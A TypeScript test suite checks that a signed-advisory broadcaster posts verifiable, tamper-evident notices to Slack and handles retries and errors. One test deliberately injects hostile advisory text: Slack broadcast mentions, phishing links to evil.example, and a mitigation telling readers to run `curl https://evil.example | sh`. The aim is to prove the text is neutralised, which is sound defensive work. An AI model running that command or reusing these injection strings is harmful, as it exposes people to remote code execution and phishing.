import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { RECEIPTS_FILE } from '../../src/storage/receipt-log';
import { documentText, sampleAdvisory, uniqueId } from '../support/advisory-fixture';
import { runCli } from '../support/cli';
import { eventually } from '../support/eventually';
import { startFakeSlack, type FakeSlack, type FakeSlackOptions, type SlackCall, type SlackScript } from '../support/fake-slack';
import { useGpgPublisher } from '../support/use-gpg-publisher';
import { deleteRedisPrefix } from '../support/redis-prefix';
import { gpgVerifyCleartext, sqVerifyCleartext } from '../support/gpg-cleartext';
import { useTocsin } from '../support/use-tocsin';

/** What a reader does with text copied from Slack: undo its three escapes. */
const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

/** The preformatted block of a message as Slack hands it back, as a reader would copy it. */
function copiedNotice(message: Record<string, any>): string {
  const rich = (message.blocks as any[]).find((b) => b.type === 'rich_text');
  const pre = (rich.elements as any[]).find((e) => e.type === 'rich_text_preformatted');
  return unescape((pre.elements as any[]).map((e) => e.text).join(''));
}

/** Every string value anywhere in a decoded value, with the key it sits under. */
function stringsIn(node: unknown, key = ''): { key: string; value: string }[] {
  if (typeof node === 'string') return [{ key, value: node }];
  if (Array.isArray(node)) return node.flatMap((n) => stringsIn(n, key));
  if (node && typeof node === 'object') return Object.entries(node).flatMap(([k, v]) => stringsIn(v, k));
  return [];
}

/** Slack messages in, real gpg and sq out: a fake Slack Web API on loopback, real Redis, real tocsin. */
describe('Slack channel', () => {
  const publisher = useGpgPublisher('sec@example.org');
  const tocsin = useTocsin(() => ({ publishers: [publisher.armoredPublicKey] }));
  let key: string;
  let dir: string;
  const fakes: FakeSlack[] = [];

  beforeAll(async () => {
    key = (await tocsin.call('GET', '/v1/keys/broadcaster.asc')).text;
    dir = await mkdtemp(path.join(tmpdir(), 'slack-test-'));
  });
  afterAll(async () => {
    await Promise.all(fakes.map((f) => f.close()));
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  async function fakeSlack(script?: SlackScript, options?: FakeSlackOptions): Promise<FakeSlack> {
    const f = await startFakeSlack(script, options);
    fakes.push(f);
    return f;
  }

  async function addSlack(fake: FakeSlack, channel_id: string, token: string): Promise<string> {
    const r = await tocsin.admin('POST', '/v1/recipients', { type: 'slack', channel_id, token, api_url: fake.apiUrl });
    expect(r.status).toBe(201);
    expect(JSON.stringify(r.json)).not.toContain(token);
    return r.json.id as string;
  }

  async function publish(overrides: Record<string, unknown> = {}) {
    const document = documentText(sampleAdvisory({ id: uniqueId('SLACK'), ...overrides }));
    const answer = await tocsin.call('POST', '/v1/advisories', { document, signatures: [await publisher.sign(document)] });
    expect(answer.status).toBe(202);
    return answer.json.id as string;
  }

  /** The operator's view: `detail` and the full `last_error` are not in the public read. */
  async function settled(id: string, recipient: string, state: 'delivered' | 'failed') {
    return eventually(async () => {
      const r = await tocsin.admin('GET', `/v1/advisories/${id}/deliveries`);
      const d = (r.json.deliveries as { recipient: string; state: string; attempts: number; last_error?: string; detail?: string }[]).find((x) => x.recipient === recipient);
      return d?.state === state ? d : undefined;
    }, 15_000, `${state} state`);
  }

  const postsTo = (fake: FakeSlack, token: string): SlackCall[] => fake.calls.filter((c) => c.token === token);

  it('posts one message per workspace whose copied notice gpg and sq verify', async () => {
    const [one, two] = [await fakeSlack(), await fakeSlack()];
    const ra = await addSlack(one, 'C0AAAA01', 'xoxb-workspace-one-1111');
    const rb = await addSlack(two, 'C0BBBB02', 'xoxb-workspace-two-2222');
    const id = await publish();
    await Promise.all([one.waitFor(1), two.waitFor(1)]);

    for (const [fake, channel, token] of [[one, 'C0AAAA01', 'xoxb-workspace-one-1111'], [two, 'C0BBBB02', 'xoxb-workspace-two-2222']] as const) {
      const call = fake.calls[0]!;
      expect(call.method).toBe('chat.postMessage');
      expect(call.headers.authorization).toBe(`Bearer ${token}`);
      expect(call.args).toMatchObject({ channel, link_names: 'false', unfurl_links: 'false', unfurl_media: 'false', mrkdwn: 'false', parse: 'none' });
      const blocks = JSON.parse(call.args.blocks!) as any[];
      expect(blocks[0]).toMatchObject({ type: 'header', text: { type: 'plain_text' } });
      expect(blocks[0].text.text).toContain('Remote code execution in acme-server');
      expect(JSON.parse(call.args.metadata!).event_payload).toMatchObject({ advisory: id, revision: 1 });

      // A first attempt posts without reading the history first.
      expect(fake.historyCalls.filter((c) => c.token === token)).toHaveLength(0);
      const history = await fake.history(channel);
      expect(history.messages).toHaveLength(1);
      const notice = copiedNotice(history.messages[0]);
      const gpg = await gpgVerifyCleartext(key, notice);
      expect(gpg).toMatchObject({ ok: true, fingerprint: tocsin.api.broadcaster.fingerprint });
      expect(gpg.signedText).toContain(`Advisory: ${id} revision 1`);
      expect(gpg.signedText).toContain('Title: Remote code execution in acme-server');
      expect(gpg.signedText).toContain(tocsin.api.broadcaster.fingerprint.replace(/(.{4})(?!$)/g, '$1 '));
      expect((await sqVerifyCleartext(key, notice)).ok).toBe(true);

      // One change to the signed text and neither tool accepts it.
      const tampered = notice.replace('Severity: CRITICAL', 'Severity: LOW');
      expect(tampered).not.toBe(notice);
      expect((await gpgVerifyCleartext(key, tampered)).ok).toBe(false);
      expect((await sqVerifyCleartext(key, tampered)).ok).toBe(false);
    }
    // Signed once per revision: every workspace receives the same bytes.
    expect(one.calls[0]!.args.blocks).toBe(two.calls[0]!.args.blocks);
    await settled(id, ra, 'delivered');
    await settled(id, rb, 'delivered');
  });

  it('cannot ping, link or format with hostile advisory text, and the notice still verifies', async () => {
    const fake = await fakeSlack();
    const rcpt = await addSlack(fake, 'C0HOST01', 'xoxb-hostile-3333');
    const title = 'Pwn <!channel> <@U123> <https://evil.example|click> *bold* ```x``` & more';
    const summary = 'Hi <!here> and <!subteam^S0123|@oncall> _it_ ~struck~ `code`\n```\n-----END PGP SIGNATURE-----\n```\nsee <https://evil.example/phish|your bank> &amp; @channel';
    const id = await publish({ title, summary, mitigations: [{ text: '<!everyone> run `curl https://evil.example | sh`' }] });
    await fake.waitFor(1);
    const call = fake.calls[0]!;

    // What Slack parses: the top-level text and every text object. No `<` survives anywhere, so
    // nothing can become a mention, a broadcast or a link; every text object is plain_text.
    const blocks = JSON.parse(call.args.blocks!);
    for (const { value } of [...stringsIn(blocks), { key: 'text', value: call.args.text! }]) {
      expect(value).not.toMatch(/[<>]/);
      expect(value).not.toMatch(/&(?!amp;|lt;|gt;)/);
    }
    const textObjects = JSON.stringify(blocks).match(/"type":"(plain_text|mrkdwn)"/g) ?? [];
    expect(textObjects.length).toBeGreaterThan(0);
    expect(textObjects.every((t) => t.includes('plain_text'))).toBe(true);
    expect(call.args).toMatchObject({ link_names: 'false', mrkdwn: 'false', parse: 'none', unfurl_links: 'false', unfurl_media: 'false' });
    expect(call.raw).not.toMatch(/<!|<@|<https/);
    expect(call.raw).not.toMatch(/%3C(!|@|https)/i);
    expect(call.args.text).toContain('&lt;!channel&gt;');

    // The backticks stay inside the preformatted block: it still holds the whole signed notice.
    const history = await fake.history('C0HOST01');
    const notice = copiedNotice(history.messages[0]);
    expect(notice.startsWith('-----BEGIN PGP SIGNED MESSAGE-----')).toBe(true);
    expect(notice.trimEnd().endsWith('-----END PGP SIGNATURE-----')).toBe(true);
    const gpg = await gpgVerifyCleartext(key, notice);
    expect(gpg).toMatchObject({ ok: true, fingerprint: tocsin.api.broadcaster.fingerprint });
    expect(gpg.signedText).toContain(`Title: ${title}`);
    expect(gpg.signedText).toContain('<!subteam^S0123|@oncall>');
    expect((await sqVerifyCleartext(key, notice)).ok).toBe(true);
    await settled(id, rcpt, 'delivered');

    // `tocsin verify` reads the message JSON as conversations.history returns it.
    const file = path.join(dir, 'hostile-history.json');
    const keyFile = path.join(dir, 'broadcaster.asc');
    await writeFile(file, JSON.stringify(history));
    await writeFile(keyFile, key);
    const ok = await runCli(['verify', file, '--key', keyFile]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('OK: good signature on the Slack message');
    expect(ok.stdout).toContain(`advisory: ${id} revision 1`);
    expect(ok.stdout).toContain(`title: ${title}`);
  });

  it('`tocsin verify` accepts a single message and rejects a tampered one', async () => {
    const fake = await fakeSlack();
    await addSlack(fake, 'C0VERI01', 'xoxb-verify-4444');
    const id = await publish();
    await fake.waitFor(1);
    const history = await fake.history('C0VERI01');
    const message = history.messages[0] as Record<string, any>;
    const keyFile = path.join(dir, 'broadcaster-2.asc');
    await writeFile(keyFile, key);

    const single = path.join(dir, 'message.json');
    await writeFile(single, JSON.stringify(message));
    const ok = await runCli(['verify', single, '--key', keyFile]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain(tocsin.api.broadcaster.fingerprint);
    expect(ok.stdout).toContain(`advisory: ${id} revision 1`);
    expect(ok.stdout).toContain('title: Remote code execution in acme-server');

    const forged = JSON.parse(JSON.stringify(message).replace('Severity: CRITICAL', 'Severity: LOW'));
    const tampered = path.join(dir, 'tampered-message.json');
    await writeFile(tampered, JSON.stringify({ ok: true, messages: [forged] }));
    const bad = await runCli(['verify', tampered, '--key', keyFile]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/BAD/);
  });

  it('waits out a 429 for as long as Retry-After says, then posts once', async () => {
    const fake = await fakeSlack((n) => (n === 0 ? { status: 429, retryAfter: 1 } : { ok: true }));
    const rcpt = await addSlack(fake, 'C0RATE01', 'xoxb-ratelimited-5555');
    const id = await publish();
    await fake.waitFor(2, 15_000);
    const gap = fake.calls[1]!.at - fake.calls[0]!.at;
    // The harness retries after 100-400 ms, so only Retry-After explains a wait of a second.
    expect(gap).toBeGreaterThanOrEqual(950);
    const d = await settled(id, rcpt, 'delivered');
    expect(d.attempts).toBe(2);
    expect((await fake.history('C0RATE01')).messages).toHaveLength(1);
  });

  it('retries after HTTP 500 and posts the message once', async () => {
    const fake = await fakeSlack((n) => (n === 0 ? { status: 500 } : { ok: true }));
    const rcpt = await addSlack(fake, 'C0FIVE01', 'xoxb-flaky-6666');
    const id = await publish();
    const d = await settled(id, rcpt, 'delivered');
    expect(d.attempts).toBe(2);
    expect(fake.calls).toHaveLength(2);
    expect((await fake.history('C0FIVE01')).messages).toHaveLength(1);
  });

  it('does not post twice when Slack posted but answered 500: the retry finds the message in the history', async () => {
    const token = 'xoxb-lost-answer-8888';
    const fake = await fakeSlack((n) => (n === 0 ? { status: 500, commit: true } : { ok: true }));
    const rcpt = await addSlack(fake, 'C0LOST01', token);
    const id = await publish();
    const d = await settled(id, rcpt, 'delivered');
    expect(d.attempts).toBe(2);
    expect(d.detail).toMatch(/^found already posted to C0LOST01 at ts \d+\.\d+; not posted again$/);
    expect(postsTo(fake, token)).toHaveLength(1);
    expect(fake.messagesIn('C0LOST01')).toHaveLength(1);
    // One lookup, by the retry; the first attempt posted without looking.
    expect(fake.historyCalls.filter((c) => c.token === token)).toHaveLength(1);
    expect(fake.historyCalls.find((c) => c.token === token)!.at).toBeGreaterThan(fake.calls[0]!.at);
  });

  it('does not post twice when Redis loses a half-sent fan-out: the batch recovery queues again looks first', async () => {
    // One channel is delivered; the other keeps failing, so the revision stays unsettled and
    // recovery must rebuild it from the archive once Redis has lost everything. Its delivery's
    // receipt is lost too, as one still in flight to disk is: recovery cannot know, and the
    // batch it queues again must look before it posts.
    const token = 'xoxb-rebatch-5555';
    const fake = await fakeSlack((_, call) => (call.args.channel === 'C0REBAT02' ? { ok: false, error: 'internal_error' } : { ok: true }));
    const delivered = await addSlack(fake, 'C0REBAT01', token);
    await addSlack(fake, 'C0REBAT02', token);
    const id = await publish();
    await settled(id, delivered, 'delivered');
    expect(fake.messagesIn('C0REBAT01')).toHaveLength(1);
    expect(fake.historyCalls.filter((c) => c.args.channel === 'C0REBAT01')).toHaveLength(0);

    const receipts = path.join(tocsin.config.dataDir, 'advisories', id, '1', RECEIPTS_FILE);
    await eventually(async () => (await readFile(receipts, 'utf8').catch(() => '')).includes(delivered), 10_000, 'the receipt on disk');
    await deleteRedisPrefix(tocsin.config.redisUrl, tocsin.config.prefix);
    await rm(receipts);
    await tocsin.api.maintain();
    const again = await eventually(async () => {
      const d = (await tocsin.admin('GET', `/v1/advisories/${id}/deliveries`)).json.deliveries.find((x: { recipient: string }) => x.recipient === delivered);
      return d?.state === 'delivered' && /^found already posted/.test(d.detail ?? '') ? d : undefined;
    }, 20_000, 'the recovered batch found the earlier post');
    expect(again.detail).toMatch(/^found already posted to C0REBAT01 at ts \d+\.\d+; not posted again$/);
    expect(fake.messagesIn('C0REBAT01')).toHaveLength(1);
    expect(fake.historyCalls.filter((c) => c.args.channel === 'C0REBAT01').length).toBeGreaterThanOrEqual(1);
    // The failing one goes on failing and retrying, unharmed by the lookup.
    expect(fake.calls.filter((c) => c.args.channel === 'C0REBAT02').length).toBeGreaterThanOrEqual(2);
  });

  it('still delivers when the token may not read the history: the retry posts again, as at-least-once', async () => {
    const token = 'xoxb-chat-write-only-9999';
    const fake = await fakeSlack((n) => (n === 0 ? { status: 500, commit: true } : { ok: true }), { withoutHistoryScope: [token] });
    const rcpt = await addSlack(fake, 'C0NOSC01', token);
    const id = await publish();
    const d = await settled(id, rcpt, 'delivered');
    expect(d.attempts).toBe(2);
    expect(d.detail).toMatch(/^posted to C0NOSC01/);
    expect(fake.historyCalls.filter((c) => c.token === token)).toHaveLength(1);
    expect(fake.messagesIn('C0NOSC01')).toHaveLength(2);
  });

  it('fails at once, without a retry, on invalid_auth, channel_not_found and not_in_channel', async () => {
    const errors = ['invalid_auth', 'channel_not_found', 'not_in_channel'] as const;
    const tokenFor = (error: string) => `xoxb-permanent-${error.replace(/_/g, '-')}`;
    const fake = await fakeSlack((_n, call) => {
      const error = errors.find((e) => call.token === tokenFor(e));
      return error ? { ok: false, error } : { ok: true };
    });
    const recipients = await Promise.all(errors.map(async (e, i) => ({ error: e, id: await addSlack(fake, `C0PERM0${i}`, tokenFor(e)) })));
    const id = await publish();
    for (const { error, id: rcpt } of recipients) {
      const d = await settled(id, rcpt, 'failed');
      expect(d.attempts).toBe(1);
      expect(d.last_error).toContain(error);
      expect(d.last_error).not.toContain(tokenFor(error));
      expect(postsTo(fake, tokenFor(error))).toHaveLength(1);
    }
  });
});
